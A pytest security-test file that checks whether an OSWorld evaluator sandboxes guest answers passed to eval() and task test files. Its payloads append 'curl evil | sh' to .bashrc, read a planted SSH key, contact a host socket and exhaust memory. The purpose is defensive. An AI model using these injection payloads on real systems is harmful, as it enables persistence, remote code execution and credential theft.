"""``--evaluator osworld`` runs OSWorld's code on guest answers: it must harm nothing on the host.

OSWorld's ``check_gnome_favorite_apps`` calls ``eval()`` on the getter's answer and its
``check_python_file_by_test_suite`` imports the task's test file. Each test here hands the reference
evaluator a guest answer (or a test file in the task's cache folder) that writes into the user's HOME,
reads the planted key or connects to a host service, and checks that none of it happened.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from osw_studio.core.errors import EvaluationError
from osw_studio.core.task import Evaluator
from osw_studio.envs.guest_client import GuestClient
from osw_studio.evaluation.confine import Confined
from osw_studio.evaluation.evaluate import score_evaluator
from osw_studio.evaluation.osworld import WORKER, OSWorldMetrics, reference_python
from osw_studio.evaluation.registry import GetterContext
from tests.security.conftest import Victim


@pytest.fixture(scope="module")
def osworld() -> Iterator[OSWorldMetrics]:
    python = reference_python()
    if not python.is_file():
        pytest.skip(f"no side environment at {python}")
    yield OSWorldMetrics(python)


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    yield server
    server.close()


async def _score(osworld: OSWorldMetrics, folder: Path, evaluator: dict[str, Any]) -> float | None:
    """The score, or None when the reference raised (its code failed inside the sandbox)."""
    async with GuestClient("http://127.0.0.1:9") as guest:  # never contacted: rule and cache getters
        ctx = GetterContext(guest=guest, cache_dir=folder, task_dir=folder)
        try:
            return (
                await score_evaluator(ctx, "t1", Evaluator.model_validate(evaluator), metrics=osworld)
            ).score
        except EvaluationError:
            return None


def _favorites(payload: str) -> dict[str, Any]:
    return {
        "func": "check_gnome_favorite_apps",
        "result": {"type": "rule", "rules": payload},
        "expected": {"type": "rule", "rules": {"expected": ["a.desktop"]}},
    }


async def test_an_eval_in_a_guest_answer_cannot_write_the_users_home_or_read_the_key(
    osworld: OSWorldMetrics, victim: Victim, tmp_path: Path
) -> None:
    write = (
        f"[open({str(victim.bashrc)!r}, 'a').write('curl evil | sh\\n'), "
        f"open({str(victim.home / 'planted')!r}, 'w').write('x')] and ['a.desktop']"
    )
    assert await _score(osworld, tmp_path, _favorites(write)) != 1.0
    assert victim.untouched()
    assert sorted(p.name for p in victim.home.iterdir()) == [".bashrc", ".ssh"]

    read = f"['a.desktop'] if {victim.key_text!r} in open({str(victim.key)!r}).read() else []"
    assert await _score(osworld, tmp_path, _favorites(read)) != 1.0
    # The metric itself runs: a harmless answer scores.
    assert await _score(osworld, tmp_path, _favorites("['a.desktop']")) == 1.0

    home = "__import__('os').path.expanduser('~')"
    mine = f"['a.desktop'] if {home} == {str(Path.home())!r} else []"
    assert await _score(osworld, tmp_path, _favorites(mine)) == 0.0


async def test_an_eval_in_a_guest_answer_cannot_reach_a_host_service(
    osworld: OSWorldMetrics, listener: socket.socket, tmp_path: Path
) -> None:
    port = listener.getsockname()[1]
    payload = f"__import__('socket').create_connection(('127.0.0.1', {port}), 3) and ['a.desktop']"
    assert await _score(osworld, tmp_path, _favorites(payload)) != 1.0
    with pytest.raises(TimeoutError):
        listener.accept()


async def test_a_task_test_file_runs_confined(
    osworld: OSWorldMetrics, victim: Victim, tmp_path: Path
) -> None:
    suite = tmp_path / "suite.py"
    suite.write_text(
        "import os\n"
        f"KEY = open({str(victim.key)!r}).read() if os.path.exists({str(victim.key)!r}) else ''\n"
        "def test():\n"
        f"    open({str(victim.bashrc)!r}, 'a').write('curl evil | sh\\n')\n"
        f"    return {victim.key_text!r} in KEY\n"
        "def harmless():\n"
        "    return os.path.basename(__file__) == 'suite.py'\n"
    )
    evaluator: dict[str, Any] = {
        "func": "check_python_file_by_test_suite",
        "result": {"type": "rule", "rules": "main.py"},
        "expected": {"type": "cache_file", "path": "suite.py"},
    }
    assert await _score(osworld, tmp_path, evaluator) != 1.0
    assert victim.untouched()
    # The test file is read from the task's folder: a test that harms nothing still scores.
    evaluator["options"] = {"test_function_name": "harmless"}
    assert await _score(osworld, tmp_path, evaluator) == 1.0


async def test_an_endless_answer_a_hung_metric_or_a_memory_hog_is_cut_off(
    osworld: OSWorldMetrics, tmp_path: Path
) -> None:
    flood = "__import__('os').write(1, b'x' * (4 << 20)) and ['a.desktop']"
    with pytest.raises(EvaluationError, match="printed more than"):
        osworld.score_sync("check_gnome_favorite_apps", [flood, {"expected": []}], {}, files=tmp_path)
    with pytest.raises(EvaluationError, match="took longer than"):
        Confined(osworld.python, WORKER).ask(
            {"metric": "check_gnome_favorite_apps", "args": ["__import__('time').sleep(60)", {}]},
            [],
            timeout=2,
        )
    big = "len(bytearray(8 << 30)) and ['a.desktop']"
    with pytest.raises(EvaluationError, match="MemoryError"):
        osworld.score_sync(
            "check_gnome_favorite_apps", [big, {"expected": ["a.desktop"]}], {}, files=tmp_path
        )
